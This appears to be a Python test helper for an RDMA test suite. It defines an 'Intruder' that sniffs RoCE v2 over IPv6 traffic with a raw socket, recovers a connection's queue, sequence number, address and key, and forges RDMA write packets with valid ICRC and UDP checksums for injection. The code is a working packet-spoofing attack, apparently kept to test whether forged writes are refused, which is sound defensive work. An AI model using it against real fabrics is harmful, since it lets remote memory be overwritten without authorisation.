"""An intruder on the fabric: reads what others send, and adds packets of its own to a connection.

RoCE v2 packets over IPv6, as soft-RoCE sends them: Ethernet, IPv6, UDP (port 4791), the base
transport header of 12 bytes, a header for the remote memory in a request (RETH: address, key,
length), the payload, and a checksum of all that no hop changes (ICRC; InfiniBand Architecture
Specification, annex A17). Nothing in them proves who sent them.
"""

from __future__ import annotations

import socket
import struct
import time
import zlib
from collections.abc import Sequence
from dataclasses import dataclass

from tests.rdma.fabric import Side

_ALL_PROTOCOLS = 0x0003
_SO_RCVBUFFORCE = 33  # Python has no name for it
_ROCE_PORT = 4791
_WRITE_ONLY, _READ_REQUEST = 0x0A, 0x0C
_ACKNOWLEDGE = 0x11
_RESPONSES = range(0x0D, _ACKNOWLEDGE + 1)  # to reads, and acknowledgements
_IP, _UDP, _BTH, _RETH = 14, 54, 62, 74
_QUIET_S = 0.5


@dataclass(frozen=True)
class Reading:
    """A connection as its last read request shows it: all that a forger needs."""

    request: bytes
    queue: int
    """Of the side that is read."""
    next_packet: int
    address: int
    key: int

    def forge_write(self, payload: bytes, key: int) -> bytes:
        """Return the frame of a write that looks like the reader's next request."""
        assert len(payload) % 4 == 0
        number = 1 << 31 | self.next_packet  # wants to be acknowledged
        body = struct.pack(">BBHII", _WRITE_ONLY, 0x40, 0xFFFF, self.queue, number)
        body += struct.pack(">QII", self.address, key, len(payload)) + payload
        size = 8 + len(body) + 4
        ip = self.request[_IP : _IP + 4] + struct.pack(">H", size) + self.request[_IP + 6 : _UDP]
        udp = self.request[_UDP : _UDP + 4] + struct.pack(">HH", size, 0)
        body += struct.pack("<I", _icrc(ip, udp, body))
        udp = udp[:6] + struct.pack(">H", _udp_checksum(ip, udp + body))
        return self.request[:_IP] + ip + udp + body


def _icrc(ip: bytes, udp: bytes, body: bytes) -> int:
    """Of these headers with ones for what a hop may change."""
    fixed_ip = b"\x6f\xff\xff\xff" + ip[4:7] + b"\xff" + ip[8:]
    fixed_body = body[:4] + b"\xff" + body[5:]
    return zlib.crc32(b"\xff" * 8 + fixed_ip + udp[:6] + b"\xff\xff" + fixed_body)


def _udp_checksum(ip: bytes, datagram: bytes) -> int:
    pseudo = ip[8:40] + struct.pack(">II", len(datagram), socket.IPPROTO_UDP)
    data = pseudo + datagram + b"\0" * (len(datagram) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF or 0xFFFF


class Intruder:
    """Sees both directions of the link at one side's interface, from its construction on."""

    def __init__(self, side: Side) -> None:
        self._socket = socket.socket(
            socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ALL_PROTOCOLS)
        )
        self._socket.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, 64 << 20)
        self._socket.bind((side.interface, 0))
        self._socket.settimeout(_QUIET_S)

    def frames(self, deadline_s: float) -> list[bytes]:
        """Return the RoCE frames since the last call, up to a moment without any."""
        found = []
        end = time.monotonic() + deadline_s
        try:
            while time.monotonic() < end:
                frame = self._socket.recv(65536)
                if frame[12:14] == b"\x86\xdd" and frame[20] == socket.IPPROTO_UDP:
                    found.append(frame)
        except TimeoutError:
            pass
        return [f for f in found if struct.unpack_from(">H", f, _UDP + 2)[0] == _ROCE_PORT]

    def send(self, frame: bytes) -> None:
        """Send a frame out of the side's interface."""
        self._socket.send(frame)

    def close(self) -> None:
        self._socket.close()


def last_reading(frames: Sequence[bytes]) -> Reading:
    """Find the last read request, and which packet its connection expects next."""
    request = [frame for frame in frames if frame[_BTH] == _READ_REQUEST][-1]
    queue, first = _queue(request), _packet(request)
    address, key, _size = struct.unpack_from(">QII", request, _RETH)
    # The reader's own queue is where the answer to that request went.
    answers = [frame for frame in frames if frame[_BTH] in _RESPONSES]
    reader = next(_queue(frame) for frame in reversed(answers) if _packet(frame) == first)
    seen = [_packet(frame) for frame in frames if _queue(frame) == queue]
    seen += [_packet(frame) for frame in answers if _queue(frame) == reader]
    return Reading(request, queue, (max(seen) + 1) & 0xFFFFFF, address, key)


def is_refusal(frame: bytes) -> bool:
    """Whether it is a negative acknowledgement: syndrome 011…"""
    return frame[_BTH] == _ACKNOWLEDGE and frame[_RETH] >> 5 == 0b011


def _queue(frame: bytes) -> int:
    number: int = struct.unpack_from(">I", frame, _BTH + 4)[0]
    return number & 0xFFFFFF


def _packet(frame: bytes) -> int:
    number: int = struct.unpack_from(">I", frame, _BTH + 8)[0]
    return number & 0xFFFFFF
